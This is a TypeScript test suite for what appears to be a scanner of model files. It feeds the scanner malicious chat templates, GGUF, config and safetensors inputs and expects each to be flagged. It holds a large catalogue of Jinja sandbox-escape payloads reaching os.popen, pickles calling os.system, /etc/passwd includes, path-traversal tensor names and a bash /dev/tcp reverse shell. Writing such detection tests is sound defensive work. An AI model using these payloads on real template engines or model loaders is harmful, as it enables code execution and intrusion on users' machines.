import { describe } from "vitest";
import { concat, u32, u64, zeros } from "../builders/bytes.js";
import { gguf, ggufRaw, ggufString, ggufText, ggufTexts, oneGgufTensor } from "../builders/gguf.js";
import * as p from "../builders/pickle.js";
import { oneTensor, safetensors, safetensorsText } from "../builders/safetensors.js";
import { zip } from "../builders/zip.js";
import { failing } from "./attack.js";

const WALK = "{{ ''.__class__.__mro__[1].__subclasses__()[140].__init__.__globals__['os'].popen('id').read() }}";

/** Templates that leave their sandbox where there is none. */
const TEMPLATES: Readonly<Record<string, string>> = {
  "the attribute is looked up by a filter": "{{ ''|attr('__class__')|attr('__mro__') }}",
  "the name is written in hexadecimal": "{{ ''['\\x5f\\x5fclass\\x5f\\x5f'] }}",
  "the name is written in Unicode escapes": "{{ ''['\\u005f\\u005fclass\\u005f\\u005f'] }}",
  "the name is written in octal": "{{ ''['\\137\\137class\\137\\137'] }}",
  "the name is put together by tilde": "{{ ''['__cla' ~ 'ss__'] }}",
  "the name is put together by plus": "{{ ''['__cla' + 'ss__'] }}",
  "the name is put together by neighbours": "{{ ''['__cla' 'ss__'] }}",
  "the name is put together by join": "{{ ''[['__cla','ss__']|join] }}",
  "the name is put together by format": "{{ ''|attr('%s%sclass%s%s'|format('_','_','_','_')) }}",
  "the name is put together by str.format": "{{ ''['{0}{0}class{0}{0}'.format('_')] }}",
  "the name is reversed": "{{ ''['__ssalc__'|reverse] }}",
  "the name is sliced backwards": "{{ ''['__ssalc__'[::-1]] }}",
  "the name is replaced": "{{ ''['XXclassXX'|replace('X','_')] }}",
  "the name is in lower case after all": "{{ ''['__CLASS__'|lower] }}",
  "the name is set before": "{% set c = '__class__' %}{{ ''[c] }}",
  "the name goes through a macro": "{% macro a(o, n) %}{{ o|attr(n) }}{% endmacro %}{{ a('', '__class__') }}",
  "the name is a block": "{% set n %}__class__{% endset %}{{ ''|attr(n) }}",
  "the name comes out of a dictionary's keys": "{{ ''|attr(dict(__class__=1)|list|first) }}",
  "the name is the join of a dictionary": "{{ ''|attr(dict(__cla=1,ss__=1)|join) }}",
  "the name is in a namespace": "{% set ns = namespace(n='__class__') %}{{ ''|attr(ns.n) }}",
  "the name is a message's content": "{{ ''|attr(messages[0]['content']) }}",
  "the walk begins at cycler": "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
  "the walk begins at joiner": "{{ joiner.__init__.__globals__.os.popen('id').read() }}",
  "the walk begins at lipsum": "{{ lipsum.__globals__['os'].popen('id').read() }}",
  "the walk begins at namespace": "{{ namespace.__init__.__globals__.os.popen('id').read() }}",
  "the walk begins at the template itself": "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id') }}",
  "the walk begins at a function of the application": "{{ raise_exception.__globals__['__builtins__']['eval']('1') }}",
  "the walk begins at a macro": "{% macro m() %}{% endmacro %}{{ m.__init__.__globals__ }}",
  "the walk begins at a loop": "{% for m in messages %}{{ loop.__init__.__globals__ }}{% endfor %}",
  "the walk begins at a generator": "{{ (messages|map('upper')).gi_frame.f_builtins }}",
  "the walk begins at Flask's configuration":
    "{{ config.__class__.from_envvar.__globals__.import_string('os').popen('id') }}",
  "a module is hoped for by its name": "{{ __builtins__['eval']('1') }}",
  "the walk begins at Flask's request": "{{ request.application.__globals__.__builtins__.__import__('os') }}",
  "the attribute is given to map": "{{ ['']|map(attribute='__class__')|list }}",
  "the attribute is given to sort": "{{ ['']|sort(attribute='__class__.__mro__') }}",
  "the attribute is given to groupby": "{{ ['']|groupby('__class__') }}",
  "the attribute is given to selectattr": "{{ ['']|selectattr('__class__')|list }}",
  "the walk stands in a condition": "{% if ''.__class__.__mro__ %}{% endif %}",
  "the walk stands in a loop": "{% for c in ''.__class__.__base__.__subclasses__() %}{{ c }}{% endfor %}",
  "the walk stands in a filter block": "{% filter replace('a', ''.__class__.__name__) %}a{% endfilter %}",
  "the walk stands in a call block":
    "{% macro m() %}{{ caller() }}{% endmacro %}{% call m() %}{{ ''.__class__ }}{% endcall %}",
  "the walk stands in a with block": "{% with x = ''.__class__ %}{{ x.__mro__ }}{% endwith %}",
  "the walk stands in a default argument": "{% macro m(x=''.__class__.__mro__) %}{% endmacro %}{{ m() }}",
  "the walk stands in an inherited block": "{% block a %}{{ ''.__class__.__mro__ }}{% endblock %}",
  "another template is included": "{% include '/etc/passwd' %}",
  "another template is imported": "{% import '/etc/passwd' as x %}",
  "another template is extended by a computed name": "{% extends '/etc/' ~ 'passwd' %}",
  "the white space marks are unusual": "{%-set c=''.__class__-%}{{-c.__mro__-}}",
  "the expression is broken over lines": "{{\n''\n.\n__class__\n.\n__mro__\n}}",
  "the walk follows raw text that only seems to hold it": "{% raw %}{{ x }}{% endraw %}{{ ''.__class__.__mro__ }}",
  "the walk follows a comment": "{# {{ #}{{ ''.__class__.__mro__ }}",
  "the format method reads attributes": "{{ '{0.__class__.__init__.__globals__}'.format(cycler) }}",
  "the format_map method reads attributes": "{{ '{a.__class__}'.format_map({'a': cycler}) }}",
  "the string is formatted by a filter": "{{ '{0.__class__}'|string|attr('format')(cycler) }}",
  "do runs an expression": "{% do ''.__class__.__mro__ %}",
  "a bomb of loops":
    "{% for a in range(99999) %}{% for b in range(99999) %}{% for c in range(99999) %}x{% endfor %}{% endfor %}{% endfor %}",
  "a bomb of multiplication": "{{ 'a' * 10000000000 }}",
};

describe("an attack by a chat template", () => {
  failing(Object.entries(TEMPLATES).map(([hope, text]) => ({ hope, name: "chat_template.jinja", bytes: () => text })));
  failing([
    {
      hope: "the template is text of a GGUF file",
      name: "m.gguf",
      bytes: () => gguf({ entries: [ggufText("tokenizer.chat_template", WALK)] }),
      least: "high",
    },
    {
      hope: "the template has a name",
      name: "m.gguf",
      bytes: () => gguf({ entries: [ggufText("tokenizer.chat_template.tool_use", WALK)] }),
      least: "high",
    },
    {
      hope: "the template is under a key of somebody",
      name: "m.gguf",
      bytes: () => gguf({ entries: [ggufText("general.prompt", WALK)] }),
    },
    {
      hope: "the template is one of an array",
      name: "m.gguf",
      bytes: () => gguf({ entries: [ggufTexts("tokenizer.chat_templates", ["ok", WALK])] }),
      least: "high",
    },
    {
      hope: "the template is in an array of arrays",
      name: "m.gguf",
      bytes: () =>
        gguf({
          entries: [ggufRaw("tokenizer.chat_template", 9, concat(u32(9), u64(1), u32(8), u64(1), ggufString(WALK)))],
        }),
      least: "high",
    },
    {
      hope: "the file is big-endian",
      name: "m.gguf",
      bytes: () => gguf({ bigEndian: true, entries: [ggufText("tokenizer.chat_template", WALK, false)] }),
      least: "high",
    },
    {
      hope: "the first of two templates is the bad one",
      name: "m.gguf",
      bytes: () =>
        gguf({ entries: [ggufText("tokenizer.chat_template", WALK), ggufText("tokenizer.chat_template", "ok")] }),
      least: "high",
    },
    {
      hope: "the second of two templates is the bad one",
      name: "m.gguf",
      bytes: () =>
        gguf({ entries: [ggufText("tokenizer.chat_template", "ok"), ggufText("tokenizer.chat_template", WALK)] }),
      least: "high",
    },
    {
      hope: "version 2 of the format",
      name: "m.gguf",
      bytes: () => gguf({ version: 2, entries: [ggufText("tokenizer.chat_template", WALK)] }),
      least: "high",
    },
    {
      hope: "a version that is to come",
      name: "m.gguf",
      bytes: () => gguf({ version: 9, entries: [ggufText("tokenizer.chat_template", WALK)] }),
    },
    {
      hope: "the file is called model.bin",
      name: "model.bin",
      bytes: () => gguf({ entries: [ggufText("tokenizer.chat_template", WALK)] }),
      least: "high",
    },
    {
      hope: "the number of entries is too small, and the template comes later",
      name: "m.gguf",
      bytes: () =>
        gguf({
          entryCount: 1n,
          entries: [ggufText("a", "b"), ggufText("tokenizer.chat_template", WALK)],
          ...oneGgufTensor,
        }),
    },
    {
      hope: "the template lies in tokenizer_config.json",
      name: "tokenizer_config.json",
      bytes: () => JSON.stringify({ chat_template: WALK }),
      least: "high",
    },
    {
      hope: "the template is the second of a list",
      name: "tokenizer_config.json",
      bytes: () =>
        JSON.stringify({
          chat_template: [
            { name: "default", template: "ok" },
            { name: "rag", template: WALK },
          ],
        }),
      least: "high",
    },
    {
      hope: "the template is in a list of texts",
      name: "tokenizer_config.json",
      bytes: () => JSON.stringify({ chat_template: ["ok", WALK] }),
      least: "high",
    },
    {
      hope: "the template is in an object by name",
      name: "processor_config.json",
      bytes: () => JSON.stringify({ chat_template: { default: WALK } }),
      least: "high",
    },
    {
      hope: "the template lies in chat_template.json",
      name: "chat_template.json",
      bytes: () => JSON.stringify({ chat_template: WALK }),
      least: "high",
    },
    {
      hope: "the template lies in a YAML file",
      name: "config.yaml",
      bytes: () => `chat_template: "${WALK}"\n`,
      least: "high",
    },
    {
      hope: "the template lies in a TOML file",
      name: "config.toml",
      bytes: () => `chat_template = "${WALK}"\n`,
      least: "high",
    },
    {
      hope: "the template stands under a system prompt",
      name: "config.json",
      bytes: () => JSON.stringify({ model_type: "x", system_prompt: WALK }),
    },
    {
      hope: "the template lies in the metadata of safetensors",
      name: "m.safetensors",
      bytes: () => oneTensor({ __metadata__: { chat_template: WALK } }),
    },
    {
      hope: "the configuration lies in the metadata of safetensors as JSON",
      name: "m.safetensors",
      bytes: () => oneTensor({ __metadata__: { config: JSON.stringify({ _target_: "os.system", command: "id" }) } }),
      least: "high",
    },
    { hope: "the template lies in a text file of the same name", name: "chat_template.txt", bytes: () => WALK },
    {
      hope: "the template has an ending of its own",
      name: "additional_chat_templates/rag.jinja",
      bytes: () => WALK,
      least: "high",
    },
    {
      hope: "the template is in UTF-16",
      name: "chat_template.jinja",
      bytes: () => Buffer.from(`\ufeff${WALK}`, "utf16le"),
      least: "high",
    },
    { hope: "an Ollama template layer", name: "template", bytes: () => WALK },
  ]);
});

describe("an attack by a safetensors file", () => {
  failing(
    [
      {
        hope: "the header names a tensor twice",
        bytes: () =>
          safetensorsText(
            '{"w":{"dtype":"F32","shape":[2],"data_offsets":[0,8]},"w":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}}',
            8,
          ),
        least: "low",
      },
      {
        hope: "offsets overlap",
        bytes: () =>
          safetensors(
            {
              a: { dtype: "F32", shape: [2], data_offsets: [0, 8] },
              b: { dtype: "F32", shape: [2], data_offsets: [4, 12] },
            },
            12,
          ),
      },
      {
        hope: "offsets leave the file",
        bytes: () => safetensors({ a: { dtype: "F32", shape: [2], data_offsets: [0, 1e15] } }, 8),
      },
      {
        hope: "the shape is larger than the data",
        bytes: () => safetensors({ a: { dtype: "F32", shape: [1e9, 1e9], data_offsets: [0, 8] } }, 8),
      },
      { hope: "the header is larger than the file", bytes: () => concat(u64(1 << 30), '{"a":1}') },
      {
        hope: "the header is padded with a pickle",
        bytes: () =>
          safetensorsText(`{"w":{"dtype":"F32","shape":[2],"data_offsets":[0,8]}}   cos\nsystem\n(S'id'\ntR.`, 8),
      },
      {
        hope: "a hole between tensors holds a pickle",
        bytes: () =>
          safetensors(
            {
              a: { dtype: "F32", shape: [1], data_offsets: [0, 4] },
              b: { dtype: "F32", shape: [1], data_offsets: [44, 48] },
            },
            concat(zeros(4), p.osSystem(), zeros(44 - p.osSystem().length)).subarray(0, 48),
          ),
      },
      {
        hope: "a tensor is an archive with a pickle",
        bytes: () => {
          const z = zip({ entries: [{ name: "data.pkl", data: p.osSystem() }] });
          return safetensors({ a: { dtype: "U8", shape: [z.length], data_offsets: [0, z.length] } }, z);
        },
      },
      {
        hope: "an archive is appended",
        bytes: () =>
          concat(
            oneTensor(),
            zip({
              entries: [
                { name: "archive/data.pkl", data: p.osSystem() },
                { name: "archive/version", data: "3" },
              ],
            }),
          ),
      },
      {
        hope: "a command stands in the metadata",
        bytes: () => oneTensor({ __metadata__: { note: "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1" } }),
      },
      {
        hope: "Python stands in the metadata",
        bytes: () => oneTensor({ __metadata__: { hook: "__import__('os').system('id')" } }),
      },
      {
        hope: "a pickle in base64 stands in the metadata",
        bytes: () => oneTensor({ __metadata__: { state: Buffer.from(p.osSystem()).toString("base64") } }),
      },
      {
        hope: "the name of a tensor is a path",
        bytes: () => safetensors({ "../../../root/.bashrc": { dtype: "F32", shape: [2], data_offsets: [0, 8] } }, 8),
      },
      {
        hope: "a program is a tensor",
        bytes: () => {
          const elf = concat("\x7fELF", [2, 1, 1, 0], zeros(8), [2, 0, 62, 0], zeros(44));
          return safetensors({ a: { dtype: "U8", shape: [elf.length], data_offsets: [0, elf.length] } }, elf);
        },
      },
    ],
    "m.safetensors",
  );
});
